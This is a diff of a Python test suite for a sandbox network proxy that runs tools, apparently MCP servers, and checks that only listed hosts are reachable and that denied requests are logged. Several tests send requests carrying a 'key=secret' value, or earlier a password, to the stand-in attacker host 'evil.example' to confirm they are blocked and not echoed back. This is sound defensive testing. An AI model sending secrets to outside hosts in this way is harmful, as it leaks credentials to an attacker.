@@ -26,6 +26,8 @@ from tests.kits.commands.command_kit import build_bridge, connect_commands
 from tests.kits.constants import TIMEOUT
 from tests.kits.openapi.api_server import ApiServer, Reply, run_api
 from tests.kits.processes.processes_kit import find_processes, make_token, wait_until_gone
+from tests.kits.survival.survival_kit import FIRST_WAY, run_server
+from tests.kits.upstream.upstream_kit import call_text, run_source, wait_for_state, write_command
 from tests.kits.waiting import wait_until
 from tests.kits.wire.speaking import call, get_text
 
@@ -44,7 +46,7 @@ print(httpx2.get(sys.argv[1], timeout=60).text)
 """
 CONNECT = """
 import socket, sys
-host, _, port = sys.argv[1].rpartition(":")
+host, _, port = sys.argv[-1].rpartition(":")
 socket.create_connection((host, int(port)), 30)
 print("connected")
 """
@@ -54,6 +56,14 @@ tunnel = socket.create_connection(("127.0.0.1", 3128))
 tunnel.sendall(f"CONNECT {sys.argv[1]} HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n".encode())
 print(tunnel.recv(1000).decode(), file=sys.stderr, flush=True)
 time.sleep(600)
+"""
+WORKER_TOOL = """
+import urllib.request
+from mcp_bridge import tool
+
+@tool
+def fetch(url: str) -> str:
+    return urllib.request.urlopen(url, timeout=60).read().decode()
 """
 CLIENTS = {
     "curl": ["curl", "-sS", "{url}"],
@@ -109,9 +119,9 @@ async def test_a_client_of_https_reaches_a_listed_host_and_no_other(client: str,
 @pytest.mark.parametrize("client", ["curl", "urllib", "httpx"])
 async def test_a_denied_http_request_is_explained(client: str, tmp_path: Path) -> None:
     async with connect_client(tmp_path, client, "*.example.com") as connected:
-        text = get_text(await call(connected, "t", url="http://user:password@evil.example/?key=secret"))
+        text = get_text(await call(connected, "t", url="http://evil.example/?key=secret"))
     assert "evil.example:80 is not listed in the sandbox's network setting" in text
-    assert "password" not in text
+    assert "secret" not in text
 
 
 async def test_case_and_a_dot_at_the_end_of_a_name_do_not_matter(tmp_path: Path, server: ApiServer) -> None:
@@ -123,7 +133,7 @@ async def test_case_and_a_dot_at_the_end_of_a_name_do_not_matter(tmp_path: Path,
 
 async def test_a_listed_address_is_reached_by_its_number(tmp_path: Path, server: ApiServer) -> None:
     async with connect_client(tmp_path, "urllib", f"127.0.0.1:{get_port(server)}") as connected:
-        assert get_text(await call(connected, "t", url=f"{server.url}/")) == "{}\n"
+        assert get_text(await call(connected, "t", url=f"{server.url}/")) == "{}"
 
 
 async def test_a_listed_name_leads_to_this_machine_only_if_the_settings_allow_it(
@@ -142,44 +152,45 @@ async def test_connections_that_bypass_the_proxy_fail(tmp_path: Path, server: Ap
         assert "refused" in get_text(await call(connected, "t", url=f"127.0.0.1:{port}"))
         assert "unreachable" in get_text(await call(connected, "t", url="192.0.2.1:443"))
         assert "gaierror" in get_text(await call(connected, "t", url="example.com:443"))
-        assert get_text(await call(connected, "t", url=f"127.0.0.1:{PORT}")) == "connected\n"
+        assert get_text(await call(connected, "t", url=f"127.0.0.1:{PORT}")) == "connected"
 
 
-async def test_the_program_runs_without_a_network_if_the_proxy_is_killed(tmp_path: Path, server: ApiServer) -> None:
+async def test_a_program_has_no_network_after_its_proxy_was_killed(tmp_path: Path) -> None:
     script = f"""
-import os, socket, sys, time
-print("started", os.getcwd(), file=sys.stderr, flush=True)
+import os, time
+print("started", flush=True)
 while not os.path.exists("killed"):
     time.sleep(0.02)
 {CONNECT}
 """
-    token = make_token()
-    tool = {"command": [sys.executable, "-c", script, f"127.0.0.1:{PORT}", token]}
-    async with connect_commands(tmp_path, {"t": tool}, sandbox={"network": ["example.com"]}) as connected:
-        result: dict[str, Any] = {}
+    token, result = make_token(), dict[str, Any]()
+    command = [sys.executable, "-c", script.replace("{", "{{").replace("}", "}}"), token, f"127.0.0.1:{PORT}"]
+    tools, sandbox = {"t": {"command": command, "stream": "progress"}}, {"network": ["example.com"]}
+    start = anyio.Event()
 
-        async def call_tool() -> None:
-            result.update(await call(connected, "t"))
+    async def receive(progress: float, total: float | None, message: str | None) -> None:
+        start.set()
 
-        async with anyio.create_task_group() as tasks:
+    with anyio.fail_after(TIMEOUT):
+        async with connect_commands(tmp_path, tools, sandbox=sandbox) as connected, anyio.create_task_group() as tasks:
+
+            async def call_tool() -> None:
+                response = await connected.call_tool("t", {}, progress_callback=receive)
+                result["text"] = str(response.content)
+
             tasks.start_soon(call_tool)
-            (proxy,) = await anyio.to_thread.run_sync(wait_until, lambda: find_proxies(token))
+            await start.wait()
+            (proxy,) = find_proxies(token)
             proxy.kill()
             await anyio.to_thread.run_sync(wait_until, lambda: not find_proxies(token))
             (tmp_path / "killed").touch()
-    assert "refused" in get_text(result)
+    assert "refused" in result["text"]
 
 
 def find_proxies(token: str) -> list[psutil.Process]:
-    """Return the proxies: the only processes that run the script outside, after it has executed the sandbox."""
+    """Return the running proxies. Supervisors have the command line of a proxy in theirs."""
     processes = [psutil.Process(pid) for pid in find_processes(token)]
-    return [process for process in processes if "outside" in process.cmdline() and is_ready(process)]
-
-
-def is_ready(proxy: psutil.Process) -> bool:
-    """Whether the parent of a proxy is the program of its sandbox already."""
-    parent = proxy.parent()
-    return parent is not None and parent.name() == "bwrap"
+    return [process for process in processes if process.cmdline()[4] == "outside"]
 
 
 async def test_many_connections_at_once_are_served(tmp_path: Path, server: ApiServer) -> None:
@@ -188,7 +199,7 @@ import sys, urllib.request
 from concurrent.futures import ThreadPoolExecutor
 
 def fetch(number):
-    return len(urllib.request.urlopen(f"{sys.argv[1]}/{number}", timeout=60).read())
+    return len(urllib.request.urlopen("%s/%d" % (sys.argv[1], number), timeout=60).read())
 
 with ThreadPoolExecutor(100) as pool:
     print(sum(pool.map(fetch, range(300))))
@@ -196,7 +207,7 @@ with ThreadPoolExecutor(100) as pool:
     tool = {"command": [sys.executable, "-c", script, server.url]}
     sandbox = {"network": [server.url.removeprefix("http://")]}
     async with connect_commands(tmp_path, {"t": tool}, sandbox=sandbox) as connected:
-        assert get_text(await call(connected, "t")) == "600\n"
+        assert get_text(await call(connected, "t")) == "600"
     assert {request.path for request in server.received} == {f"/{number}" for number in range(300)}
 
 
@@ -249,6 +260,24 @@ async def test_a_sandbox_cannot_take_the_place_of_the_modules_of_the_proxy(tmp_p
         with contextlib.chdir(tmp_path):
             assert get_text(await call(connected, "t", url=f"http://127.0.0.1:{get_port(server)}/")) == "{}"
     assert "imported" not in os.listdir(tmp_path)
+
+
+def test_workers_reach_listed_hosts_and_denials_are_logged(tmp_path: Path, server: ApiServer) -> None:
+    isolation = {"sandbox": {"network": [server.url.removeprefix("http://")]}, "workers": 1}
+    source = {"type": "python", "path": "own_tools.py", "isolation": isolation}
+    with run_server(FIRST_WAY, tmp_path, WORKER_TOOL, {"sources": [source]}) as bridge:
+        for _ in range(2):
+            assert bridge.get_text("fetch", url=f"{server.url}/") == "{}"
+        assert bridge.get_result("fetch", url="https://evil.example/")["isError"]
+        bridge.wait_for_stderr("evil.example:443 is not listed in the sandbox's network setting")
+
+
+async def test_mcp_servers_have_a_proxy_in_their_sandbox(tmp_path: Path, server: ApiServer) -> None:
+    entry = write_command(sandbox={"network": ["api.example.com"]})
+    async with run_source(entry, tmp_path) as (source, client):
+        await wait_for_state(source, "ready")
+        assert "refused" in await call_text(client, "echo", f"connect {get_port(server)}")
+        assert await call_text(client, "echo", f"connect {PORT}") == "connected"
 
 
 async def test_an_empty_list_is_no_network(tmp_path: Path) -> None:
